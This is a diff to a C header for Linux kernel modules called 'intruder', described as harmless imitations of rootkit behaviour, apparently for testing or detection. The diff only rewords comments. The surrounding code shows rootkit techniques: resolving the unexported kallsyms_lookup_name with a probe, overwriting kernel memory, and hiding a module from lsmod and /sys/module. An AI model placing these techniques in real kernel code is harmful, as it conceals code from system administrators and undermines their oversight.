@@ -1,6 +1,6 @@
 /*
- * What the intruder's modules share. Each does one thing that rootkits do, harmlessly: what a hook replaces, it calls.
- * They never leave: none has an exit function.
+ * Shared by the intruder's modules. Each module does one thing that rootkits do, without harm: a hook calls the function
+ * that it replaces. The modules cannot be unloaded, as none has an exit function.
  */
 #ifndef INTRUDER_H
 #define INTRUDER_H
@@ -13,7 +13,7 @@
 
 MODULE_LICENSE("GPL");
 
-/* The address of any symbol. kallsyms_lookup_name is no longer exported (5.7), but a probe finds it. */
+/* Returns the address of any symbol. kallsyms_lookup_name is no longer exported (since 5.7), but a probe finds it. */
 static inline unsigned long find(const char *name) {
     static unsigned long (*lookup)(const char *);
     if (!lookup) {
@@ -43,7 +43,7 @@ static inline int overwrite(unsigned long address, const void *bytes, size_t siz
     return 0;
 }
 
-/* Takes the module out of lsmod and /sys/module. */
+/* Removes the module from lsmod and /sys/module. */
 static inline void hide_module(void) {
     list_del_init(&THIS_MODULE->list);
     kobject_del(&THIS_MODULE->mkobj.kobj);
